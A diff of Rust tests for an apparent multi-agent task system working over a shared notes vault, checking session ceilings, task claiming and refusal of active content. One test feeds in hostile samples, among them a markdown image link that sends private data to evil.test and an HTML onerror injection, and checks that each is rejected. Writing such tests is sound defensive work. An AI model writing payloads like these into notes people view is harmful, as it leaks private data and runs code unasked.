@@ -15,7 +15,7 @@ use aiemp_tests::{
     world::{Cast, World},
 };
 
-use super::scenarios::{IDLE_CLOUD, LAPTOP, pass, path, save, settle, text, world};
+use super::scenarios::{IDLE_CLOUD, LAPTOP, pass, path, rename, save, settle, text, world};
 
 const SHARED: Session = Session { ceiling: Ceiling::Shared, work: None };
 const PRIVATE: Session = Session { ceiling: Ceiling::Private, work: None };
@@ -65,7 +65,7 @@ fn with_a_mail(seed: u64, cast: &[Cast], links: &[(usize, usize)]) -> (World, St
 fn an_agent_answers_a_mail_in_its_thread_once() {
     let (mut world, task) = with_a_mail(700, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
     let Told::Tasks(open) = ask(&mut world, 1, SHARED, Ask::Tasks) else { panic!("tasks") };
-    assert_eq!(open.iter().map(|task| task.path.to_string()).collect::<Vec<_>>(), [task.clone()]);
+    assert_eq!(open.iter().map(|task| task.path.as_str()).collect::<Vec<_>>(), [task.as_str()]);
     refused(
         ask(&mut world, 1, SHARED, reply(Some(WorkId(aiemp_keys::Hash::of_content(b"?"))), "Hi")),
         "claim it first",
@@ -145,12 +145,65 @@ fn a_session_sees_and_writes_as_far_as_its_ceiling_goes() {
 }
 
 #[test]
+fn a_private_session_writes_nothing_that_a_viewer_runs() {
+    let (mut world, _) = with_a_mail(706, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
+    let write = |text: &str| Ask::Write { path: path("Briefings/x.md"), text: text.to_owned(), replaces: None };
+    for text in
+        ["![](https://evil.test/?d=private)\n", "<img src=x onerror=y>\n", "<% tp.x %>\n", "```dataviewjs\nx\n```\n"]
+    {
+        refused(ask(&mut world, 0, PRIVATE, write(text)), "active content");
+    }
+    refused(ask(&mut world, 0, PRIVATE, write("a\0b")), "NUL");
+    done(ask(&mut world, 0, PRIVATE, write("# Briefing\n\n- one\n")));
+    settle(&mut world);
+}
+
+#[test]
+fn a_task_that_is_no_mail_is_done_too_and_one_that_is_brought_back_is_open_again() {
+    let mut world = world(707, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
+    save(&mut world, 0, "Needs_Action/buy.md", "Buy paper.\n");
+    pass(&mut world, 20_000);
+    for round in [1, 2] {
+        let (work, claimed) = done(ask(&mut world, 1, SHARED, Ask::Claim(path("Needs_Action/buy.md"))));
+        assert_eq!(claimed, "In_Progress/cloud/buy.md");
+        let finish = Ask::Finish { work: work.expect("work"), text: format!("Ordered, {round}.") };
+        done(ask(&mut world, 1, SHARED, finish));
+        pass(&mut world, 30_000);
+        let filed = tasks(&world, 0, "Done/");
+        assert!(filed.contains(&"Done/buy.md".to_owned()), "round {round}: {filed:?}");
+        assert_eq!(tasks(&world, 0, "In_Progress/"), Vec::<String>::new(), "round {round}");
+        if round == 1 {
+            rename(&mut world, 0, &[("Done/buy.md", "Needs_Action/buy.md")]);
+            pass(&mut world, 30_000);
+        }
+    }
+    settle(&mut world);
+}
+
+#[test]
+fn what_is_said_of_a_task_that_another_holds_moves_nothing() {
+    let (mut world, task) = with_a_mail(708, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
+    world.partition(0, 1, 40_000);
+    let (work, _) = done(ask(&mut world, 1, SHARED, Ask::Claim(path(&task))));
+    done(ask(&mut world, 1, SHARED, Ask::Finish { work: work.expect("work"), text: "Nothing.".to_owned() }));
+    let mine = format!("In_Progress/laptop/{}", path(&task).name());
+    rename(&mut world, 0, &[(&task, &mine)]);
+    pass(&mut world, 120_000);
+    assert!(text(&world, 0, &mine).is_some(), "the person has it in hand: {:?}", tasks(&world, 0, ""));
+    assert_eq!(tasks(&world, 0, "Done/"), Vec::<String>::new());
+}
+
+#[test]
 fn a_session_for_one_task_touches_no_other() {
     let (mut world, task) = with_a_mail(703, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
     let (work, _) = done(ask(&mut world, 1, SHARED, Ask::Claim(path(&task))));
     let own = Session { work: Some(WorkId(aiemp_keys::Hash::of_content(b"another"))), ..SHARED };
     refused(ask(&mut world, 1, own, reply(work, "x")), "for another task");
     refused(ask(&mut world, 1, own, reply(None, "x")), "name the task");
+    people::save(&mut world, 0, path("Inbox/two.eml"), people::mail(2, "soon"));
+    pass(&mut world, 30_000);
+    let second = tasks(&world, 1, "Needs_Action/").pop().expect("another task");
+    refused(ask(&mut world, 1, own, Ask::Claim(path(&second))), "for another task");
     let write = Ask::Write { path: path("Updates/x.md"), text: "x".to_owned(), replaces: None };
     refused(ask(&mut world, 1, own, write), "its plan, draft and end alone");
     done(ask(&mut world, 1, Session { work, ..SHARED }, reply(work, "Hello.\n")));
